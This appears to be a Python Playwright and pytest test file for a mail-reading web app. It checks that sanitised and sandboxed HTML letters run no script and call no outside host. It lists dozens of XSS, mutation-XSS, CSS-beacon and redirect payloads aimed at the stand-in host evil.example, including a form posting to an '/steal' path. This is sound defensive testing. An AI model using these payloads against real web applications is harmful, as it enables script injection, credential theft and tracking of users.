"""Letters that attack whoever reads them: nothing runs, nothing is loaded, nothing is submitted."""

import re
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from playwright.sync_api import Request

from inboxbot.web import formatted
from tests import letters
from tests.browser.conftest import visits
from tests.browser.desk import Desk
from tests.letters import Letter
from tests.stand import Stand, moved, new_store

EVIL = "http://evil.example"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src='http://evil.example/x.js'></script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.gif'>",
    "<img srcset='http://evil.example/pixel.gif 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><image href='http://evil.example/x.png'/></svg>",
    "<svg><use href='http://evil.example/x.svg#a'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>click</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    "<img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example/bg)}</style>",
    "<div style='background:url(http://evil.example/bg)'>x</div>",
    "<div style='background-image:url(//evil.example/bg)'>x</div>",
    "<div style='list-style:url(http://evil.example/l)'>x</div>",
    "<div style='content:url(http://evil.example/c)'>x</div>",
    "<div style='cursor:url(http://evil.example/c),auto'>x</div>",
    "<div style='--x:url(http://evil.example/v);background:var(--x)'>x</div>",
    "<div style='position:fixed;inset:0;background:red'>cover</div>",
    '<div style="width:expression(alert(1))">x</div>',
    "<body background='http://evil.example/bg.png' onload=alert(1)>",
    "<table background='http://evil.example/t.png'><tr><td background='//evil.example/d'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<link rel=preconnect href='http://evil.example'>",
    "<link rel=dns-prefetch href='http://evil.example'>",
    "<link rel=prefetch href='http://evil.example/p'>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv='Content-Security-Policy' content=\"default-src *\">",
    "<iframe src='http://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<frameset><frame src='http://evil.example/'></frameset>",
    "<object data='http://evil.example/x.swf'></object>",
    "<embed src='http://evil.example/x.swf'>",
    "<applet code=x codebase='http://evil.example/'></applet>",
    "<video src='http://evil.example/v.mp4' autoplay onerror=alert(1)></video>",
    "<video poster='http://evil.example/p.png'></video>",
    "<audio src='http://evil.example/a.mp3' autoplay></audio>",
    "<source src='http://evil.example/s'><track src='http://evil.example/t'>",
    "<input type=image src='http://evil.example/i.png'>",
    "<form action='http://evil.example/steal' method=post><input name=p autofocus "
    "onfocus=alert(1)><button>go</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='java\nscript:alert(1)'>click</a>",
    "<a href='&#106;avascript:alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<a href='vbscript:msgbox(1)'>click</a>",
    "<a href='/logout'>click</a>",
    "<a href='http://evil.example/' ping='http://evil.example/ping'>click</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<xss onpointerover=alert(1) style='display:block;width:999px;height:999px'>x</xss>",
    "<template><script>alert(1)</script></template>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "</body></html><script>alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<img/src='x'/onerror=alert(1)//",
    "<<script>alert(1)//<</script>",
    '<a href="https://example.net/" onclick="alert(1)" style="all:unset">click</a>',
    "<font face='x\" onmouseover=alert(1) y=\"'>x</font>",
)
TEXTS = (
    "javascript:alert(1) http://evil.example/?a=<script>alert(1)</script>",
    'https://evil.example/"onmouseover="alert(1)',
    "mailto:a@b.c?subject=<img src=x onerror=alert(1)>",
    "http://[::1]:99999/ http://\u202eevil http://a@b@evil.example/ http://",
)


ACTIVE = "script, iframe, object, embed, form, img, svg, link, base, meta[http-equiv]"
COUNT = "selector => document.querySelectorAll(selector).length"
# Every letter's frame on one page, as a letter's own page has it; resolves when all are loaded.
FRAMES = """addresses => Promise.all(addresses.map(address => new Promise(done => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-popups allow-popups-to-escape-sandbox");
    frame.onload = done;
    frame.src = address;
    document.body.append(frame);
})))"""


def test_sixty_hostile_letters_run_nothing_and_call_nobody(
    usual: Desk, house: Stand, tmp_path: Path
) -> None:
    path = tmp_path / "state" / "inboxbot.sqlite3"
    db = new_store(path)
    now = datetime.now(UTC)
    assert len(PAYLOADS) >= 60
    rows = [
        letters.add(
            db,
            Letter(subject=html, name=html, text=f"{html}\n{TEXTS[n % len(TEXTS)]}", html=html),
            now,
        )
        for n, html in enumerate(PAYLOADS)
    ]
    db.close()
    dialogs: list[str] = []
    strangers: list[str] = []

    with moved(house, path) as stand, visits(usual, stand) as visit:
        page = visit(None)

        def note(request: Request) -> None:
            if not request.url.startswith((stand.url, "about:", "data:")):
                strangers.append(request.url)

        page.context.on("request", note)
        page.context.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(stand.url + "/queue?view=open")
        page.goto(stand.url + "/help")
        page.evaluate(FRAMES, [f"/m/{row}/formatted" for row in rows])
        frames = [frame for frame in page.frames if frame.url.endswith("/formatted")]
        assert len(frames) == len(rows)
        for frame in frames:
            assert frame.evaluate(COUNT, ACTIVE) == 0, frame.url
        for row in rows[::20]:
            page.goto(f"{stand.url}/m/{row}?show=formatted")
            frame_of_page = page.frame_locator("iframe").locator("body")
            frame_of_page.wait_for(state="attached")
        page.goto(f"{stand.url}/m/{rows[0]}")
        page.mouse.move(400, 300)
        for row in rows[:: len(rows) // 6]:
            page.goto(f"{stand.url}/m/{row}?show=whole")
            page.goto(f"{stand.url}/m/{row}?show=source")
    assert stand.faults == []
    assert dialogs == []
    assert strangers == []


def test_the_formatted_view_opens_in_our_frame_and_nowhere_else(
    usual: Desk, house: Stand, tmp_path: Path
) -> None:
    path = tmp_path / "state" / "inboxbot.sqlite3"
    db = new_store(path)
    row = letters.add(db, Letter(html="<p>Hello</p>"), datetime.now(UTC))
    db.close()
    with moved(house, path) as stand, visits(usual, stand) as visit:
        page = visit(f"/m/{row}")
        answer = page.goto(f"{stand.url}/m/{row}/formatted")
        assert answer is not None
        assert answer.status == 403


@pytest.mark.parametrize("html", PAYLOADS)
def test_what_is_left_of_hostile_html_has_no_tag_that_acts_and_no_attribute_that_loads(
    html: str,
) -> None:
    for tag in re.findall(r"<[^>]*>", formatted.harmless(html)):
        name = re.match(r"</?([a-z0-9]+)", tag)
        assert name is not None, tag
        assert name[1] in formatted.TAGS, tag
        for attribute in re.findall(r"([a-z:-]+)=", re.sub(r'="[^"]*"', "=", tag)):
            assert attribute in formatted.ATTRIBUTE_NAMES, tag
        assert "javascript:" not in tag
        assert "url(" not in tag


def test_a_megabyte_of_tangled_html_is_refused_at_once_and_less_is_made_harmless_in_time() -> None:
    for unit in ("<div>", "<a href=x>", "<table><tr><td>", "<ul><li>", "<div></p>", "<a><b>"):
        assert formatted.is_too_tangled(unit * (1_000_000 // len(unit)))
        before = time.monotonic()
        formatted.harmless(unit * (formatted.TAGS_LIMIT // unit.count("<")))
        assert time.monotonic() - before < 10
